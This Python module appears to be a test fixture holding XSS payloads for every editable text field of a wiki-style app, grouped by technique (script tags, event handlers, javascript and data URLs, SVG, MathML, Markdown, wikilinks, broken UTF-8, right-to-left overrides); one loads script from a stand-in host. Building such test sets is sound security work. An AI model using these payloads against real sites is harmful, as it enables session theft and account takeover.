"""Hostile text: XSS payloads for every editable text field.

Each payload is one line (titles, headings, names and infobox values are
single lines), calls a marker if it ever runs (``alert(1)``, ``window.__xss=1``
or ``fetch('/xss')``, which the browser tests hook), and none starts or ends
with a space or '=' (titles and headings may not). Some will still be refused
by a field's own rules (a ':' in an infobox key, a ',' in a place name): a
refusal is safe, and the tests record which fields took which payload.

``PAYLOADS`` is a list of :class:`Payload` (category, text), all distinct.
``PLAIN_HTML`` are payloads that Markdown leaves alone, so their characters
must show on the page exactly as typed.
"""

from __future__ import annotations

from typing import NamedTuple


class Payload(NamedTuple):
    category: str
    text: str


def _broken(data: bytes) -> str:
    """Bytes that are not valid UTF-8, decoded as a lenient reader would."""
    return data.decode("utf-8", errors="replace")


RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE
PDF = "\u202c"  # POP DIRECTIONAL FORMATTING

_RAW = {
    "script": [
        "<script>alert(1)</script>",
        "<SCRIPT>window.__xss=1</SCRIPT>",
        "<script src=//xss.example/x.js></script>",
        "<script>fetch('/xss')</script>",
        "</script><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<!--<script>alert(1)</script>-->",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "{{ '<script>alert(1)</script>'|safe }}",
        "{% autoescape off %}<script>alert(1)</script>{% endautoescape %}",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "]]><script>alert(1)</script><![CDATA[",
    ],
    "event handler": [
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover me</div>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=\"window.__xss=1\"></video>",
        "<marquee onstart=alert(1)>xss</marquee>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<style onload=alert(1)></style>",
        "<img src=\"x\" onerror=\"fetch('/xss')\">",
    ],
    "javascript url": [
        "javascript:alert(1)",
        "JaVaScRiPt:window.__xss=1",
        "<a href=\"javascript:alert(1)\">click me</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
        "<a href=\"&#106;avascript:alert(1)\">entity</a>",
        "java\tscript:alert(1)",
        "<form action=\"javascript:alert(1)\"><button>go</button></form>",
        "vbscript:msgbox(1) javascript:alert(1)",
    ],
    "data url": [
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#x",
        "<a href=\"data:text/html,<script>alert(1)</script>\">data</a>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    ],
    "svg": [
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">xss</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
        "<svg><set attributeName=href to=javascript:alert(1)>",
    ],
    "mathml": [
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math href=\"javascript:alert(1)\">CLICK</math>",
        "<math><maction actiontype=\"statusline#\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
        "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">y</mi></math>",
    ],
    "attribute breakout": [
        "\"><img src=x onerror=alert(1)>",
        "'><script>alert(1)</script>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "\" autofocus onfocus=\"window.__xss=1\" x=\"",
        "</a><img src=x onerror=alert(1)>",
        "\"/><svg/onload=alert(1)>",
        "`><img src=x onerror=alert(1)>",
        "\"});alert(1);({\"",
        "</span><script>alert(1)</script><span>",
    ],
    "markdown": [
        "[click me](javascript:alert(1))",
        "[click me](JAVASCRIPT:window.__xss=1)",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](x\" onerror=\"alert(1))",
        "![xss](javascript:alert(1))",
        "[x](https://example.org\" onclick=\"alert(1))",
        "<javascript:alert(1)>",
        "[ref][xss] [xss]: javascript:alert(1)",
        "[a](javascript&#58;alert(1))",
        "`<script>alert(1)</script>` **<img src=x onerror=alert(1)>**",
    ],
    "wikilink": [
        "[[<script>alert(1)</script>]]",
        "[[Russians in Afghanistan|<img src=x onerror=alert(1)>]]",
        "[[javascript:alert(1)]]",
        "[[\" onmouseover=\"alert(1)]]",
        "[[x|\"><svg onload=alert(1)>]]",
        "[[data:text/html,<script>alert(1)</script>|data]]",
    ],
    "broken utf-8": [
        _broken(b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe"),
        _broken(b"\xe0\x80\xbcimg src=x onerror=alert(1)\xe0\x80\xbe"),
        _broken(b"\xff\xfe<script>alert(1)</script>"),
        _broken(b"caf\xe9 <img src=x onerror=alert(1)>"),
        "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "<scr\u200bipt>alert(1)</scr\u200bipt> java\u200bscript:alert(1)",
    ],
    "right-to-left": [
        f"{RLO}<script>alert(1)</script>",
        f"harmless{RLO}>tpircs/<)1(trela>tpircs<{PDF}<script>alert(1)</script>",
        f"[photo{RLO}gnp.exe](javascript:alert(1))",
        f"\u2067<img src=x onerror=alert(1)>\u2069 {RLO}xss{PDF}",
    ],
}

PAYLOADS: list[Payload] = [
    Payload(category, text) for category, texts in _RAW.items() for text in texts
]

# Plain HTML (no Markdown syntax): shown character for character, as text.
PLAIN_HTML: list[str] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">click me</a>",
    "'><script>alert(1)</script>",
]

MARKERS = ("alert(1)", "window.__xss=1", "fetch('/xss')")


def _check() -> None:
    texts = [p.text for p in PAYLOADS]
    assert len(texts) == len(set(texts)), "duplicate payloads"
    for text in texts:
        assert "\n" not in text and "\r" not in text, text
        assert text == text.strip() and not text.startswith("=") and not text.endswith("="), text
        assert len(text) <= 255, text
    assert set(PLAIN_HTML) <= set(texts)


_check()
